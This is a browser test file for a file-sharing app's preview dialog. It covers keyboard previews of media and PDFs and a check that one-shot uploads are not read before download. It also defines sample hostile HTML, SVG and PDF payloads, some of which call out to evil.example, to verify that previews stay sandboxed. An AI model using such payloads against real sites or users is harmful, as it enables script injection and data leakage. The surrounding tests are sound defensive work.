import type { Page } from 'playwright-core'
import sharp from 'sharp'
import { describe, expect, test } from 'vitest'
import { hasBrowser, useBrowser } from '../../helpers/browser.ts'
import { addFile, type CreatedUpload, createUpload, givenFile } from '../../helpers/client.ts'
import { makeApp } from '../../helpers/make-app.ts'
import { pdf, wav, webm } from '../../helpers/media.ts'
import { givenEncrypted } from './encrypted.ts'

type Media = { videoWidth?: number; duration?: number; readyState?: number }

/** Opens the preview with the keyboard. */
async function look(page: Page, name: string): Promise<void> {
  await page.getByRole('button', { name: `Preview ${name}` }).focus()
  await page.keyboard.press('Enter')
}

async function closesWithEscape(page: Page, name: string): Promise<void> {
  await page.keyboard.press('Escape')
  await expect.poll(() => page.locator('dialog').count()).toBe(0)
  expect(await page.locator(':focus').getAttribute('aria-label')).toBe(`Preview ${name}`)
}

/** Share of the pixels of the middle of the preview that are red. */
async function redness(page: Page): Promise<number> {
  const shot = await page.locator('.preview').screenshot()
  const { data } = await sharp(shot).removeAlpha().raw().toBuffer({ resolveWithObject: true })
  const count = data.length / 3
  let red = 0
  for (let i = 0; i < data.length; i += 3)
    if ((data[i] as number) > 200 && (data[i + 1] as number) < 60 && (data[i + 2] as number) < 60) red++
  return red / count
}

describe.skipIf(!hasBrowser())('a look with the keyboard', () => {
  const open = useBrowser()
  const openWithPdf = useBrowser([], 'chromium')

  test.each(['plain', 'encrypted', 'behind a password'])('plays a video that is %s', async (kind) => {
    const app = await makeApp()
    const page = await open()
    const { link, password } = await given(app, kind, 'clip.webm', await webm(page))
    await page.goto(link)
    await unlock(page, password)

    await look(page, 'clip.webm')

    const video = page.locator('dialog video')
    await expect.poll(() => video.evaluate((element: Media) => element.videoWidth)).toBe(64)
    await closesWithEscape(page, 'clip.webm')
  })

  test.each(['plain', 'encrypted', 'behind a password'])('plays a sound that is %s', async (kind) => {
    const app = await makeApp()
    const page = await open()
    const { link, password } = await given(app, kind, 'silence.wav', wav())
    await page.goto(link)
    await unlock(page, password)

    await look(page, 'silence.wav')

    const audio = page.locator('dialog audio')
    await expect.poll(() => audio.evaluate((element: Media) => element.duration)).toBe(1)
    await closesWithEscape(page, 'silence.wav')
  })

  test.each(['plain', 'encrypted', 'behind a password'])(
    'shows a PDF that is %s, in the browser’s own viewer',
    async (kind) => {
      const app = await makeApp()
      const page = await openWithPdf()
      const { link, password } = await given(app, kind, 'red.pdf', pdf())
      await page.goto(link)
      await unlock(page, password)

      await look(page, 'red.pdf')

      await expect.poll(() => redness(page)).toBeGreaterThan(0.05)
      await closesWithEscape(page, 'red.pdf')
    },
  )
})

const EVIL_HTML = '<!doctype html><script>parent.document.title = top.document.title = document.title = "ran"</script>'
const EVIL_PDF = pdf(`
  for (const attempt of [
    () => { top.document.title = "ran" },
    () => { document.title = "ran" },
    () => app.launchURL("https://evil.example/launched"),
    () => this.submitForm("https://evil.example/submitted"),
    () => this.getURL("https://evil.example/got"),
  ]) try { attempt() } catch (error) {}
  app.alert("ran to its end")`)
const EVIL_SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="40" height="30" onload="top.document.title='ran'">
<script>top.document.title = 'ran'</script><image href="https://evil.example/pixel.png" width="9" height="9"/></svg>`

describe.skipIf(!hasBrowser())('a look at something hostile', () => {
  const open = useBrowser()
  const openWithPdf = useBrowser([], 'chromium')

  test.each([
    ['plain', 'page.pdf', EVIL_HTML],
    ['encrypted', 'page.pdf', EVIL_HTML],
    ['plain', 'picture.svg', EVIL_SVG],
    ['encrypted', 'picture.svg', EVIL_SVG],
    ['encrypted', 'picture.png', EVIL_HTML],
    ['encrypted', 'page.html', EVIL_HTML],
  ])('runs and loads nothing of what is %s and called %s', async (kind, name, content) => {
    const app = await makeApp()
    const page = await (name.endsWith('.pdf') ? openWithPdf : open)()
    const requests: string[] = []
    page.on('request', (request) => requests.push(request.url()))
    const { link } = await given(app, kind, name, content)
    await page.goto(link)

    await look(page, name)
    await page.locator('dialog :is(.preview, .stage img, [role=alert])').waitFor()
    await page.waitForLoadState('networkidle')

    expect(await page.title()).not.toContain('ran')
    expect(requests.filter((url) => /^https?:/.test(url) && !url.startsWith(app.url))).toEqual([])
    await closesWithEscape(page, name)
  })

  test.each(['plain', 'encrypted'])(
    'lets a script in a PDF that is %s reach neither page nor network',
    async (kind) => {
      const app = await makeApp()
      const page = await openWithPdf()
      const [requests, alerts]: [string[], string[]] = [[], []]
      page.context().on('request', (request) => requests.push(request.url()))
      page.on('dialog', (dialog) => {
        alerts.push(dialog.message())
        void dialog.dismiss()
      })
      const { link } = await given(app, kind, 'script.pdf', EVIL_PDF)
      await page.goto(link)

      await look(page, 'script.pdf')
      await expect.poll(() => alerts).toEqual(['ran to its end'])

      expect(await page.title()).not.toContain('ran')
      expect(page.context().pages()).toHaveLength(1)
      expect(requests.filter((url) => /^https?:/.test(url) && !url.startsWith(app.url))).toEqual([])
    },
  )
})

describe.skipIf(!hasBrowser())('what may be fetched only so often', () => {
  const open = useBrowser()

  test.each([{ oneShot: true }, { maxDownloads: 1 }, { oneShot: true, e2ee: 'age' }, { maxDownloads: 1, e2ee: 'age' }])(
    'with %j is not looked at, and nothing of it is read until it is downloaded',
    async (options) => {
      const app = await makeApp()
      const page = await open()
      const reads: string[] = []
      page.on('request', (request) => {
        if (/\/(?:file|stream|archive)\//.test(request.url())) reads.push(`${request.method()} ${request.url()}`)
      })
      const names = ['a.txt', 'b.webm', 'c.wav', 'd.pdf', 'e.png', 'f.svg']
      const { link, urls } = await givenAll(app, names, options)

      await page.goto(link)
      await page.getByRole(options.e2ee ? 'button' : 'link', { name: 'Download f.svg' }).waitFor()
      await page.waitForLoadState('networkidle')

      expect(await page.getByRole('button', { name: /^Preview/ }).count()).toBe(0)
      expect(await page.locator('.file-icon img').count()).toBe(0)
      expect(reads).toEqual([])
      const statuses = await Promise.all(urls.map(async (url) => (await fetch(url)).status))
      expect(statuses).toEqual(names.map(() => 200))
    },
  )
})

async function given(app: { url: string }, kind: string, name: string, content: string | Buffer) {
  if (kind === 'encrypted') return { ...(await givenEncrypted(app, [{ path: name, content }])), password: undefined }
  const password = kind === 'plain' ? undefined : 'secret'
  const { upload } = await givenFile(
    app,
    { password },
    typeof content === 'string' ? content : new Uint8Array(content),
    name,
  )
  return { link: `${app.url}/#/?id=${upload.id}`, password }
}

/** Files of all these names, and where each would be fetched. */
async function givenAll(app: { url: string }, names: string[], options: { e2ee?: string }) {
  const files = names.map((path) => ({ path, content: `content of ${path}` }))
  if (options.e2ee) {
    const { link, upload } = await givenEncrypted(app, files, options)
    return { link, urls: await urlsOf(app, upload.id) }
  }
  const upload = await createUpload(app, options)
  for (const { path, content } of files) await addFile(app, upload, content, path)
  return { link: `${app.url}/#/?id=${upload.id}`, urls: await urlsOf(app, upload.id) }
}

async function urlsOf(app: { url: string }, id: string): Promise<string[]> {
  const { files } = (await (await fetch(`${app.url}/upload/${id}`)).json()) as CreatedUpload
  return (files ?? []).map((file) => `${app.url}/file/${id}/${file.id}/${encodeURIComponent(file.fileName)}`)
}

async function unlock(page: Page, password: string | undefined): Promise<void> {
  if (password === undefined) return
  await page.getByLabel('Password').fill(password)
  await page.getByRole('button', { name: 'Open' }).click()
}
